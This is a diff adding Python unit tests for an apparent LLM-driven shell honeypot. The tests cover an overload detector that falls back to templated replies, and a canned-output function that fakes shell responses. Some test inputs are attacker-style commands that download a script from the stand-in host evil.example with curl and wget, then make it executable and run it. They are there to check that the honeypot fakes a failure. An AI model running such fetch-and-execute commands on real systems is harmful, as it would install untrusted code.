@@ -0,0 +1,71 @@
+import time
+import unittest
+from unittest.mock import patch
+
+from LLM.canned_responses import canned_output
+from LLM.overload import OverloadDetector
+
+
+class TestOverloadDetector(unittest.TestCase):
+
+    @patch("LLM.overload.log_event")
+    def test_queue_depth_starts_and_ends_overload(self, mock_log_event):
+        detector = OverloadDetector(max_queue_depth=2, max_latency=10, recover_ratio=0.5)
+
+        with detector.track(), detector.track():
+            self.assertTrue(detector.should_degrade())
+            self.assertTrue(detector.overloaded)
+        self.assertFalse(detector.should_degrade())
+        self.assertFalse(detector.overloaded)
+
+        states = [call.kwargs["details"]["state"] for call in mock_log_event.call_args_list]
+        self.assertEqual(states, ["start", "end"])
+        self.assertEqual(detector.stats()["episodes"], 1)
+
+    @patch("LLM.overload.log_event")
+    def test_slow_requests_start_overload_and_probes_recover(self, mock_log_event):
+        detector = OverloadDetector(max_queue_depth=10, max_latency=0.05, recover_ratio=0.5, probe_interval=0.05,
+                                    ewma_alpha=1)
+
+        with detector.track():
+            time.sleep(0.1)
+        self.assertTrue(detector.should_degrade())
+        self.assertTrue(detector.should_degrade())
+
+        time.sleep(0.06)
+        # a probe still goes to the LLM and its latency ends the overload
+        self.assertFalse(detector.should_degrade())
+        with detector.track():
+            pass
+        self.assertFalse(detector.should_degrade())
+        self.assertFalse(detector.overloaded)
+
+    def test_degraded_responses_are_counted_per_tier(self):
+        detector = OverloadDetector()
+        detector.record_degraded("template")
+        detector.record_degraded("not_found")
+        detector.record_degraded("template")
+
+        stats = detector.stats()
+        self.assertEqual(stats["degraded"], 3)
+        self.assertEqual(stats["degraded_by_tier"], {"template": 2, "not_found": 1})
+
+
+class TestCannedOutput(unittest.TestCase):
+
+    def test_template(self):
+        self.assertEqual(canned_output("  nproc ", "root", "10.0.0.1"), "2")
+        self.assertIn("no crontab for admin", canned_output("crontab -l", "admin", "10.0.0.1"))
+
+    def test_download_fails_to_resolve(self):
+        self.assertEqual(canned_output("curl -s http://evil.example/x.sh", "root", "10.0.0.1"),
+                         "curl: (6) Could not resolve host: evil.example")
+        self.assertIn("unable to resolve host address", canned_output("wget evil.example/x.sh", "root", "10.0.0.1"))
+
+    def test_silent_and_unknown_commands(self):
+        self.assertEqual(canned_output("chmod +x x.sh", "root", "10.0.0.1"), "")
+        self.assertIsNone(canned_output("./x.sh | tee log", "root", "10.0.0.1"))
+
+
+if __name__ == '__main__':
+    unittest.main()